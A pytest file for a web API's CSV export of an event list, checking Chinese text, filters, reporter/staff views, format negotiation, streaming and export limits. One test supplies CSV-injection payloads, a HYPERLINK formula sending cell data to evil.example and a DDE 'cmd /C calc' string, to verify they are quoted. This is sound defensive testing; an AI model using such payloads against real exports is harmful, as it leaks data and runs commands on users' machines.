"""The event list as CSV (issue 14, item 6; R7.2; app/events/export.py, app/core/csv_export.py).

A CSV read back by Python's `csv` module keeps Chinese text and every field of the JSON list,
starts with a UTF-8 byte order mark, honours the filters and the caller's view (R6.1, R6.2),
guards formula cells, and is chosen by `format` or by `Accept` (`format=json` wins). Streamed
on a connection of its own that goes back to the pool when the client goes away.
"""

import asyncio
import csv
import io
import json
import uuid
from collections.abc import Collection
from typing import Any

import httpx
import pytest
from asyncpg import Pool
from starlette.requests import ClientDisconnect
from starlette.types import Message

from app.core.csv_export import BOM
from app.rules.vocabulary import Role
from tests.api import flow
from tests.api.conftest import Committed
from tests.api.flow import BUSINESS_ISSUE, COORDINATION, MAJOR_COMPLAINT, call
from tests.conftest import Actor, MakeActor

JSON = dict[str, Any]
CSV_TYPE = "text/csv; charset=utf-8"
# The nested objects of a list item, spread over `field.subfield` columns (JSON objects such
# as `impact` stay one JSON cell).
NESTED = ("reporter", "external_ref", "sla")
# Fields the reporter view does not show (app/rules/views.py REPORTER_EVENT_FIELDS).
STAFF_ONLY = (
    "severity",
    "impact",
    "grading",
    "lead_department",
    "cooperating_departments",
    "routing",
    "assignee_id",
    "review_by",
    "cancel_reason",
)


async def _csv(
    client: httpx.AsyncClient, actor: Actor, query: str = "", headers: dict[str, str] | None = None
) -> tuple[httpx.Response, list[dict[str, str]]]:
    response = await client.get(f"/v1/events?{query}", headers={**actor.headers, **(headers or {})})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == CSV_TYPE
    assert response.content.startswith(BOM.encode())
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
    return response, list(reader)


def _flat(item: JSON, headers: Collection[str]) -> dict[str, Any]:
    """A JSON list item as the CSV's columns (nested objects spread out; an absent one as
    the empty columns of its fields)."""
    flat: dict[str, Any] = {}
    for key, value in item.items():
        if key in NESTED and value is not None:
            flat.update({f"{key}.{sub}": v for sub, v in value.items()})
        elif key in NESTED:
            flat.update({h: None for h in headers if h.startswith(f"{key}.")})
        else:
            flat[key] = value
    return flat


def _same(cell: str, value: Any, column: str) -> bool:
    """Whether a CSV cell says what the JSON list's value says."""
    if value is None:
        return cell == ""
    if isinstance(value, bool):
        return cell == ("true" if value else "false")
    if column == "sla.remaining_seconds":  # counted down between the two requests
        return bool(abs(int(cell) - value) <= 60)
    if isinstance(value, int):
        return int(cell) == value
    if isinstance(value, list | dict):
        return bool(json.loads(cell) == value)
    # A text a spreadsheet would run as a formula comes behind a quote (OWASP).
    return bool(cell == ("'" + value if value[:1] in ("=", "+", "-", "@") else value))


def _assert_rows_equal_items(rows: list[dict[str, str]], items: list[JSON]) -> None:
    assert [r["id"] for r in rows] == [i["id"] for i in items]
    for row, item in zip(rows, items, strict=True):
        flat = _flat(item, row)
        assert set(row) == set(flat), set(row) ^ set(flat)
        for column, value in flat.items():
            assert _same(row[column], value, column), (column, row[column], value)


async def test_csv_keeps_chinese_text_and_every_field_of_the_json_list(
    client: httpx.AsyncClient, make_actor: MakeActor
) -> None:
    """A CSV read back by `csv` has the JSON list's events in its order, every field of each
    (nested ones as `reporter.name`...), Chinese text intact; BOM, type and download name."""
    cast = await flow.make_cast(make_actor, "CS")
    system = f"crm-{uuid.uuid4().hex[:8]}"
    first = await flow.intake(
        client,
        cast.desk,
        MAJOR_COMPLAINT,
        title="客户投诉：快递延误两周",  # noqa: RUF001
        description='快递又延误了三天，客户很不满意。He said "twice", then: a, b\nnew line',  # noqa: RUF001
        reporter={"name": "王小明", "phone": "+86 138 0000 0000", "external_id": "客户-42"},
        external_ref={"system": system, "id": "A-1"},
        involved_people=["李雷", "韩梅梅"],
    )
    await flow.classify(client, cast.desk, first["id"], MAJOR_COMPLAINT)
    await flow.assign(client, cast.desk, first["id"], assignee=cast.handler)
    await flow.intake(
        client,
        cast.desk,
        BUSINESS_ISSUE,
        title="系统故障",
        external_ref={"system": system, "id": "B"},
    )

    page = await call(client, "GET", f"/v1/events?external_system={system}", cast.desk)
    response, rows = await _csv(client, cast.desk, f"external_system={system}&format=csv")

    assert len(page["items"]) == 2
    _assert_rows_equal_items(rows, page["items"])
    assert rows[1]["title"] == "客户投诉：快递延误两周"  # noqa: RUF001
    assert rows[1]["reporter.name"] == "王小明"
    assert rows[1]["severity"] == "major"
    assert rows[1]["view"] == "staff"
    assert json.loads(rows[1]["involved_people"]) == ["李雷", "韩梅梅"]
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="events-')
    assert disposition.endswith('.csv"')
    assert response.headers["vary"] == "Accept"


async def test_csv_filters_apply_as_in_the_json_list(
    client: httpx.AsyncClient, make_actor: MakeActor
) -> None:
    """Every filter of the list holds for its CSV: the same events for each."""
    cast = await flow.make_cast(make_actor, "IT")
    system = f"crm-{uuid.uuid4().hex[:8]}"
    ids = []
    for n, scenario in enumerate((BUSINESS_ISSUE, COORDINATION, BUSINESS_ISSUE)):
        event = await flow.intake(
            client, cast.desk, scenario, external_ref={"system": system, "id": str(n)}
        )
        ids.append(event["id"])
    await flow.classify(client, cast.desk, ids[0], BUSINESS_ISSUE)
    await flow.classify(client, cast.desk, ids[1], COORDINATION)
    for query in (
        "status=classified",
        "status=reported",
        "category=internal_coordination",
        "severity=general",
        "q=nothing-matches-this",
        "sort=updated_at",
    ):
        scoped = f"external_system={system}&{query}"
        page = await call(client, "GET", f"/v1/events?{scoped}", cast.desk)
        _, rows = await _csv(client, cast.desk, scoped + "&format=csv")
        assert [r["id"] for r in rows] == [i["id"] for i in page["items"]], query
    _, classified = await _csv(
        client, cast.desk, f"external_system={system}&status=classified&format=csv"
    )
    assert {r["id"] for r in classified} == set(ids[:2])


async def test_a_reporter_only_caller_s_csv_hides_what_the_reporter_view_hides(
    client: httpx.AsyncClient, make_actor: MakeActor
) -> None:
    """R6.1, R6.2: a reporter's CSV has the reporter view's columns only and only their
    events; a filter on a hidden field is refused as in the JSON list."""
    cast = await flow.make_cast(make_actor, "CS")
    mine = await flow.intake(client, cast.reporter, MAJOR_COMPLAINT, title="我的投诉")
    await flow.classify(client, cast.desk, mine["id"], MAJOR_COMPLAINT)
    await flow.assign(client, cast.desk, mine["id"], assignee=cast.handler)
    await flow.intake(client, cast.desk, BUSINESS_ISSUE)  # not theirs

    page = await call(client, "GET", "/v1/events", cast.reporter)
    response, rows = await _csv(client, cast.reporter, headers={"Accept": "text/csv"})

    _assert_rows_equal_items(rows, page["items"])
    assert [r["id"] for r in rows] == [mine["id"]]
    assert rows[0]["view"] == "reporter"
    assert not set(STAFF_ONLY) & set(rows[0])
    assert "major" not in response.text  # the severity, nowhere
    assert "key_account" not in response.text  # the impact and grading, nowhere
    problem = await flow.refused(
        client, "GET", "/v1/events?severity=major&format=csv", cast.reporter, status=422
    )
    assert [e["field"] for e in problem["errors"]] == ["query.severity"]


async def test_a_handler_s_own_report_is_a_reporter_row_in_the_staff_columns(
    client: httpx.AsyncClient, make_actor: MakeActor
) -> None:
    """R6.1: a handler sees their department's events in the staff view and an event they
    only reported in the reporter view: that row leaves every staff-only cell empty."""
    cast = await flow.make_cast(make_actor, "IT")
    ops = await flow.make_cast(make_actor, "OPS")
    own = await flow.intake(client, cast.handler, COORDINATION)  # led by OPS
    await flow.classify(client, cast.desk, own["id"], COORDINATION)
    await flow.assign(client, cast.desk, own["id"], assignee=ops.handler)
    led = await flow.intake(client, cast.reporter, BUSINESS_ISSUE)  # led by IT
    await flow.classify(client, cast.desk, led["id"], BUSINESS_ISSUE)
    await flow.assign(client, cast.desk, led["id"], assignee=cast.handler)

    _, rows = await _csv(client, cast.handler, "format=csv")

    by_id = {r["id"]: r for r in rows}
    assert set(by_id) == {own["id"], led["id"]}
    assert by_id[own["id"]]["view"] == "reporter"
    assert all(by_id[own["id"]][column] == "" for column in STAFF_ONLY)
    assert by_id[led["id"]]["view"] == "staff"
    assert by_id[led["id"]]["lead_department"] == "IT"
    # A filter on a hidden field holds only where the handler has the staff view.
    _, ops_rows = await _csv(client, cast.handler, "department=OPS&format=csv")
    assert ops_rows == []


async def test_formula_cells_are_guarded_with_a_quote(
    client: httpx.AsyncClient, make_actor: MakeActor
) -> None:
    """OWASP CSV injection: text starting with = + - @ is written behind a single quote, so
    a spreadsheet shows it instead of running it; other text is left as it is."""
    desk = await make_actor(Role.INTAKE_AGENT, department="CS")
    system = f"crm-{uuid.uuid4().hex[:8]}"
    await flow.intake(
        client,
        desk,
        BUSINESS_ISSUE,
        title='=HYPERLINK("http://evil.example/?"&A1,"click")',
        description="@SUM(1+1)*cmd|' /C calc'!A0",
        reporter={"name": "-2+3", "phone": "+1 555 0100"},
        external_ref={"system": system, "id": "=1+1"},
    )
    _, rows = await _csv(client, desk, f"external_system={system}&format=csv")
    (row,) = rows
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["reporter.name"] == "'-2+3"
    assert row["reporter.phone"] == "'+1 555 0100"
    assert row["external_ref.id"] == "'=1+1"
    assert row["channel"] == "email"
    assert row["version"] == "1"  # numbers are not guarded


@pytest.mark.parametrize(
    ("query", "accept", "is_csv"),
    [
        ("", "text/csv", True),
        ("format=csv", "application/json", True),
        ("format=json", "text/csv", False),
        ("", "", False),
        ("", "*/*", False),
        ("", "application/json, text/csv", False),
        ("", "text/csv;q=0.5, application/json", False),
        ("", "text/csv, */*;q=0.8", True),
        ("", "application/json;q=0.5, text/csv", True),
        ("", "text/csv;q=0", False),
    ],
)
async def test_format_wins_over_accept_which_must_prefer_csv(
    client: httpx.AsyncClient, reporter: Actor, query: str, accept: str, is_csv: bool
) -> None:
    """`format=csv|json` decides; without it, an `Accept` header that prefers `text/csv`."""
    headers = {**reporter.headers, "Accept": accept} if accept else reporter.headers
    response = await client.get(f"/v1/events?{query}", headers=headers)
    assert response.status_code == 200, response.text
    expected = CSV_TYPE if is_csv else "application/json"
    assert response.headers["content-type"] == expected


async def test_a_csv_has_no_pages(client: httpx.AsyncClient, reporter: Actor) -> None:
    """`limit` and `cursor` are refused with CSV (422), not silently ignored."""
    problem = await flow.refused(
        client, "GET", "/v1/events?limit=10&cursor=abc&format=csv", reporter, status=422
    )
    assert [e["field"] for e in problem["errors"]] == ["query.limit", "query.cursor"]
    problem = await flow.refused(
        client,
        "GET",
        "/v1/events?limit=10",
        reporter,
        status=422,
        headers={"Accept": "text/csv"},
    )
    assert [e["field"] for e in problem["errors"]] == ["query.limit"]
    await call(client, "GET", "/v1/events?limit=10&format=json", reporter)


@pytest.mark.parametrize("spec_version", ["2.3", "2.4"])
async def test_the_export_streams_on_its_own_pooled_connection_and_gives_it_back(
    committed: Committed, pool: Pool, spec_version: str
) -> None:
    """On the real pool: the CSV is read after the request's transaction ended, in chunks; a
    client that goes away after the first chunk stops the stream, and its connection is back
    in the pool when the app returns. ASGI 2.3 servers (uvicorn) say so through `receive`,
    2.4 ones by failing the `send`."""
    cast = await committed.cast("IT")
    system = f"crm-{uuid.uuid4().hex[:8]}"
    async with committed.client() as client:
        for n in range(20):  # 20 x 8,000 characters: two chunks of 64 K characters and a rest
            await flow.intake(
                client,
                cast.desk,
                BUSINESS_ISSUE,
                description="长" * 8000,
                external_ref={"system": system, "id": str(n)},
            )
        _, rows = await _csv(client, cast.desk, f"external_system={system}&format=csv")
    assert len(rows) == 20
    idle = pool.get_idle_size()

    bodies: list[bytes] = []
    gone = asyncio.Event()

    async def send(message: Message) -> None:
        if message["type"] == "http.response.body":
            bodies.append(message["body"])
            if len(bodies) == 1:
                gone.set()
                if spec_version == "2.4":
                    raise OSError("the client went away")
        await asyncio.sleep(0)

    async def receive() -> Message:
        await gone.wait()
        return {"type": "http.disconnect"}

    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": spec_version},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": "/v1/events",
        "raw_path": b"/v1/events",
        "query_string": f"external_system={system}&format=csv".encode(),
        "root_path": "",
        "headers": [
            (b"host", b"test"),
            (b"authorization", cast.desk.headers["Authorization"].encode()),
        ],
        "client": ("127.0.0.1", 1),
        "server": ("test", 80),
    }
    if spec_version == "2.4":
        with pytest.raises(ClientDisconnect):
            await committed.app(scope, receive, send)
    else:
        await committed.app(scope, receive, send)
    assert 1 <= len(bodies) <= 2, len(bodies)  # of four (three chunks and the end)
    assert bodies[0].startswith(BOM.encode())
    assert pool.get_idle_size() == idle


async def test_exports_beyond_the_process_limit_are_refused_until_one_ends(
    client: httpx.AsyncClient, desk: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each streamed export holds a pooled connection while its client reads, so a process
    streams at most `EXPORT_MAX_CONCURRENT` at once: beyond, 429 `too-many-exports` with
    `Retry-After` (a slow reader cannot take every connection); a finished export gives its
    slot back."""
    from app.core.config import get_settings
    from app.events import export

    limit = get_settings().export_max_concurrent
    monkeypatch.setattr(export._Slots, "streaming", limit)  # as many as allowed are streaming
    busy = await client.get("/v1/events?format=csv", headers=desk.headers)
    assert busy.status_code == 429
    assert busy.json()["type"].endswith("/too-many-exports")
    assert busy.headers["retry-after"] == "5"
    monkeypatch.setattr(export._Slots, "streaming", limit - 1)
    done = await client.get("/v1/events?format=csv", headers=desk.headers)
    assert done.status_code == 200
    assert export._Slots.streaming == limit - 1  # its slot given back when the stream ended
